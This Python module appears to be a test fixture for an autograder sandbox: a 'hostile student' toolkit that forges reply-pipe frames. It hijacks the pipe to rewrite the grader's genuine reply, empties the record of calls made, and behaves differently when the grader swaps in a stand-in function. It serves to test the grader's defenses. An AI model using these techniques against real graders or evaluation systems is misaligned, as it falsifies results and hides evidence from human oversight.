"""A hostile student's toolkit for writing frames of its own on the sandbox's reply pipe.

The harness copies this file into every hostile submission as `exercises/forgery.py`, so the
attacks in submissions/malformed-reply--*/ stay short. It is what an attacker who read
attnkit/sandbox/worker.py and warm.py would write: the worker answers the grader on a pipe the
student's code shares (fd 4 today), the protocol module is loaded in the same process
(`sys.modules["attnkit.sandbox.protocol"]`), and the request being served is a local variable of
the worker's frames. Nothing here depends on fd numbers: the reply pipe is found as the process's
write-only pipe that is not its output; frames and well-formed messages are made by the protocol
module itself, so an attack keeps up with its format and tampers with one thing at a time.
"""
import json
import os
import struct
import sys
import threading
from pathlib import Path

PROTOCOL_MODULE = "attnkit.sandbox.protocol"
O_ACCMODE, O_WRONLY = 0o3, 0o1


def _pipe_inode(fd: int) -> str:
    try:
        return os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        return ""


def _write_only(fd: int) -> bool:
    try:
        with open(f"/proc/self/fdinfo/{fd}") as info:
            flags = next(line for line in info if line.startswith("flags:"))
    except (OSError, StopIteration):
        return False
    return int(flags.split()[1], 8) & O_ACCMODE == O_WRONLY


def reply_fds() -> list[int]:
    """Every write-only pipe of this process other than the one its output goes to."""
    output = _pipe_inode(1)
    fds = sorted(int(fd) for fd in os.listdir("/proc/self/fd"))
    return [fd for fd in fds if fd > 2 and _pipe_inode(fd).startswith("pipe:")
            and _pipe_inode(fd) != output and _write_only(fd)]


def reply_fd() -> int:
    found = reply_fds()
    if not found:
        raise RuntimeError("no reply pipe found: the forgery could not be tried")
    return found[0]


def protocol():
    """The grader's own protocol module, loaded in this process by the worker."""
    module = sys.modules.get(PROTOCOL_MODULE)
    if module is None:
        raise RuntimeError("the protocol module is not loaded: the forgery could not be tried")
    return module


def header() -> struct.Struct:
    return protocol().HEADER


def body(message) -> bytes:
    """A frame's body: a message of the protocol as it encodes it; a record (dict) as JSON, NaN and lone
    surrogates (as \\u escapes) allowed; bytes and text as they are."""
    if isinstance(message, bytes):
        return message
    if isinstance(message, str):
        return message.encode("utf-8", "surrogatepass")
    if hasattr(message, "__dataclass_fields__"):
        return protocol().encode(message)[header().size:]
    return json.dumps(message, allow_nan=True).encode("utf-8")


def record(message) -> dict:
    """A well-formed message as the JSON record the protocol sends, to be tampered with field by field."""
    return json.loads(body(message))


def frame(message, claimed_length: int | None = None) -> bytes:
    """One frame: the length header (the true length unless told to lie) and the body."""
    data = body(message)
    return header().pack(len(data) if claimed_length is None else claimed_length) + data


def send(data: bytes, fd: int | None = None) -> None:
    """Write every byte (a pipe takes a big frame in pieces)."""
    fd = reply_fd() if fd is None else fd
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]


def forge(message, claimed_length: int | None = None) -> None:
    send(frame(message, claimed_length))


def current_request():
    """The request the worker is serving: a `request` in one of the frames above us."""
    caller = sys._getframe(1)
    while caller is not None:
        request = caller.f_locals.get("request")
        if hasattr(request, "module") and hasattr(request, "__dataclass_fields__"):
            return request
        caller = caller.f_back
    return None


def answer(values, inputs_after=()):
    """A well-formed Answer returning `values` (described as float32 tensors), no call seen."""
    import numpy

    proto = protocol()
    returned = [proto.Returned("array", "Tensor", numpy.asarray(v, dtype=numpy.float64), "float32") for v in values]
    returned = returned[0] if len(returned) == 1 else proto.Returned("sequence", "tuple", items=tuple(returned))
    return proto.Answer(returned=returned, inputs_after=tuple(inputs_after), calls=())


def failure(**fields) -> dict:
    """A well-formed Failure (a crash) as its record, with `fields` put in place."""
    return {**record(protocol().Failure("crash", "RuntimeError", "boom", "")), **fields}


def hand_written_softmax(scores, dim):
    """The right weights, written by hand, so that only a forged frame can cost a submission its marks."""
    import torch

    shifted = scores - scores.amax(dim=dim, keepdim=True)
    exps = torch.exp(shifted)
    return exps / exps.sum(dim=dim, keepdim=True)


_relays: list[threading.Thread] = []


def rewrite_next_frame(rewrite) -> None:
    """The next frame written on the reply pipe (the worker's own reply, or a stand-in's request)
    reaches the grader as `rewrite(body)` instead, and nothing else changes: one frame per request, each
    well formed. A relay thread sits in front of the pipe for that one frame, then steps aside."""
    for relay in _relays:
        relay.join()
    _relays.clear()
    fd = reply_fd()
    real = os.dup(fd)
    ours_r, ours_w = os.pipe()
    os.dup2(ours_w, fd)
    os.close(ours_w)
    relay = threading.Thread(target=_relay_one_frame, args=(ours_r, fd, real, rewrite), daemon=True)
    relay.start()
    _relays.append(relay)


def _relay_one_frame(source: int, fd: int, real: int, rewrite) -> None:
    size = header().size
    pending = b""
    while len(pending) < size or len(pending) < size + header().unpack(pending[:size])[0]:
        chunk = os.read(source, 1 << 16)
        if not chunk:
            break
        pending += chunk
    os.dup2(real, fd)  # the reply pipe is the real one again before the grader can answer
    (length,) = header().unpack(pending[:size])
    send(frame(rewrite(pending[size:size + length])) + pending[size + length:], real)
    os.close(real)
    os.close(source)


def without_evidence(body: bytes) -> bytes:
    """A genuine reply with every record of what the code called emptied."""
    reply = json.loads(body)
    if isinstance(reply, dict) and "calls" in reply:
        reply["calls"] = []
    return json.dumps(reply).encode("utf-8")


def stand_in(namespace: dict, name: str):
    """The function `name` of a calling module resolves to, when it is not the package's own
    `<name>.py`'s: a stand-in the grader installed for error carried forward; else None."""
    own_file = Path(namespace["__file__"]).resolve().parent / f"{name}.py"
    module = sys.modules.get(f"{namespace['__package__']}.{name}")
    for function in (namespace.get(name), getattr(module, name, None)):
        code = getattr(function, "__code__", None)
        if function is not None and (code is None or Path(code.co_filename).resolve() != own_file):
            return function
    return None


def uniform_until_stood_in(namespace: dict, Q, K, V, meddling):
    """attention as an attacker of error carried forward writes it: uniform weights (wrong, so the grader
    runs it again with a stand-in for softmax) while its own softmax is in place; with a stand-in, the
    right answer, its call to the stand-in made inside the context manager `meddling()`."""
    import torch

    scores = namespace["scaled_scores"](Q, K)
    standing_in = stand_in(namespace, "softmax")
    if standing_in is None:
        weights = torch.full_like(scores, 1.0 / scores.shape[-1])
        return weights @ V, weights
    with meddling():
        weights = standing_in(scores, dim=-1)
    return weights @ V, weights
